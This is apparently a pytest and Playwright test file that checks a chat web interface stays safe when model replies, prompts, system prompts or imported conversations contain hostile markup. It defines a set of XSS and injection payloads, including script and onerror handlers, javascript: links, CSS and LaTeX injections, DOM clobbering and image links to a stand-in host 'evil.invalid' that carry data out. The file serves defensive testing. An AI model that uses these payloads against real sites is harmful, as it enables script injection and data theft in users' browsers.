"""Model output is hostile: whatever it writes, no script runs, nothing is fetched, no policy is violated."""

import pytest
from driving import ChatPage
from playwright.sync_api import expect

EVIL = "http://evil.invalid"
ATTACKS = {
    "script": "<script>window.hacked = 1</script>",
    "handler": '<img src=x onerror="window.hacked = 1">',
    "picture": f"![a picture]({EVIL}/steal.png?words)",
    "reference picture": f"![a][b]\n\n[b]: {EVIL}/steal.png",
    "data picture": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "svg": '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
    "frame": f'<iframe srcdoc="<script>parent.hacked = 1</script>" src="{EVIL}"></iframe>',
    "javascript link": "[click](javascript:window.hacked=1) [click](JaVaScRiPt&#58;window.hacked=1) <javascript:window.hacked=1>",
    "data link": "[click](data:text/html,<script>opener.hacked=1</script>) [v](vbscript:msgbox(1)) [f](file:///etc/passwd)",
    "style": f"<style>@import '{EVIL}/x.css'; p {{ background: url({EVIL}/x) }}</style><p style='background:url({EVIL}/y)'>x</p>",
    "link element": f'<link rel=stylesheet href="{EVIL}/x.css"><meta http-equiv=refresh content=0;url={EVIL}><base href={EVIL}>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
    "form": f'<form action="{EVIL}"><input name=x autofocus onfocus="window.hacked=1"><button>go</button></form>',
    "clobbering": '<a id="announcer"></a><form name="body"><input name="dataset"></form><img name="temml">',
    "maths link": f"$\\href{{javascript:window.hacked=1}}{{x}}$ $\\url{{{EVIL}}}$ $\\includegraphics{{{EVIL}/x.png}}$",
    "maths styles": "$\\style{background:url(http://evil.invalid)}{x}$ $\\class{skip}{x}$ $\\id{send}{x}$ $\\data{a=b}{x}$",
    "maths colours": "$\\color{red;background:url(http://evil.invalid/c)}x$ $\\textcolor{expression(alert(1))}{y}$",
    "maths attributes": "$\\sideset{_1^2}{_3^4}\\prod$ $\\boldsymbol{x}$ $\\tag{1}x$ $\\begin{array}{c|c}a&b\\end{array}$",
    "maths macros": "$\\def\\a{\\a\\a}\\a$ $\\gdef\\b#1{\\b{#1#1}}\\b{x}$",
    "fence": "```\"><img src=x onerror=window.hacked=1>\nx\n```\n\n```html\n<script>window.hacked=1</script>\n```",
    "table": "| <img src=x onerror=window.hacked=1> | b |\n|:--|--:|\n| <script>hacked=1</script> | [x](javascript:hacked=1) |",
    "autolink": f'<{EVIL}/"onmouseover="window.hacked=1> {EVIL}/"onclick=window.hacked=1',
    "entities": "&lt;img src=x onerror=window.hacked=1&gt; &#x3c;script&#x3e;window.hacked=1&#x3c;/script&#x3e;",
    "nesting": "> " * 150 + "deep" + "\n\n" + "*" * 500 + "\n\n" + "[" * 400,
}  # fmt: skip


@pytest.mark.parametrize("name", list(ATTACKS))
def test_an_attack_in_a_reply_comes_to_nothing(chat: ChatPage, name: str) -> None:
    reply = chat.ask(f"/think {ATTACKS[name].splitlines()[0]}\n/say {ATTACKS[name]}")
    reply.locator("summary").click()
    unharmed(chat)
    expect(reply.locator(".answer")).not_to_be_empty()


def unharmed(chat: ChatPage) -> None:
    page = chat.page
    page.wait_for_timeout(150)
    assert page.evaluate("window.hacked") is None
    forbidden = (
        "img",
        "script",
        "iframe",
        "svg",
        "style",
        "link",
        "form",
        "input",
        "object",
        "base",
        "meta",
        "[style]",
        "[id]",
    )
    for selector in forbidden:  # but for our own icons, and the style objects of maths
        assert page.locator(f".prose {selector}:not(.icon):not(math, math *)").count() == 0, selector
    for link in page.locator(".prose a").all():
        assert link.evaluate("node => ['http:', 'https:', 'mailto:'].includes(new URL(node.href).protocol)")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow" and link.get_attribute("target") == "_blank"
    assert page.evaluate(
        "document.querySelectorAll('.prose *').values().every(n => ![...n.attributes].some(a => a.name.startsWith('on')))"
    )
    chat.check()  # no foreign request, no violation of the policy, no broken script


def test_an_attack_cut_into_a_stream_comes_to_nothing(chat: ChatPage) -> None:
    chat.ask(f"/slow 2\n/say Look: {ATTACKS['handler']} {ATTACKS['picture']} {ATTACKS['script']}")
    unharmed(chat)


def test_a_prompt_and_a_title_are_text_too(chat: ChatPage) -> None:
    chat.ask(ATTACKS["handler"])
    expect(chat.prompts.last).to_have_text(ATTACKS["handler"])
    expect(chat.page.locator("#title")).to_have_text(ATTACKS["handler"])
    unharmed(chat)


def test_an_attack_in_tokens_and_system_prompt_comes_to_nothing(chat: ChatPage) -> None:
    chat.button("Edit").click()
    chat.page.locator("#system-text").fill(ATTACKS["handler"])
    chat.button("Save").click()
    expect(chat.page.locator(".plaque mark")).to_have_text(ATTACKS["handler"])
    chat.button("Settings").click()
    chat.page.get_by_label("Token probabilities").check()
    reply = chat.ask(f"/say {ATTACKS['script']}")
    assert ATTACKS["script"] in "".join(reply.locator(".token").all_inner_texts())
    reply.locator(".token").first.hover()
    chat.button("Exact prompt").click()
    expect(chat.page.locator("#prompt-text")).to_contain_text("onerror")
    unharmed(chat)


def test_the_policy_stands_even_if_markup_got_through(chat: ChatPage) -> None:
    """The last gate by itself: a handler, a script and a foreign picture put into the page by hand."""
    failures: list[str] = []
    chat.page.on("requestfailed", lambda request: failures.append(f"{request.url} {request.failure}"))
    chat.page.evaluate(
        """() => { const box = document.createElement('div'); document.body.append(box);
        box.innerHTML = '<img src="http://evil.invalid/x.png" onerror="window.hacked = 1"><p style="color: red">x</p>'; }"""
    )
    chat.page.wait_for_timeout(200)
    assert chat.page.evaluate("window.hacked") is None
    assert any("Content Security Policy" in fault for fault in chat.faults)
    assert failures == [f"{EVIL}/x.png csp"]  # refused by the browser before anything went out
    chat.requests.clear()
    chat.faults.clear()


def test_an_imported_file_cannot_bring_scripts(chat: ChatPage, tmp_path) -> None:
    import json

    node = {"id": "a", "parent": "root", "role": "assistant", "content": ATTACKS["handler"], "model": ATTACKS["script"]}
    lane = {"model": "lantern", "nodes": {"a": node}, "children": {"root": ["a"], "a": []}, "chosen": {"root": "a"}}
    given = {"title": ATTACKS["svg"], "system": "", "lanes": [lane]}
    (tmp_path / "evil.json").write_text(json.dumps({"format": "agartha.conversations", "conversations": [given]}))
    chat.page.locator("#import-file").set_input_files(tmp_path / "evil.json")
    expect(chat.replies).to_have_count(1)
    unharmed(chat)
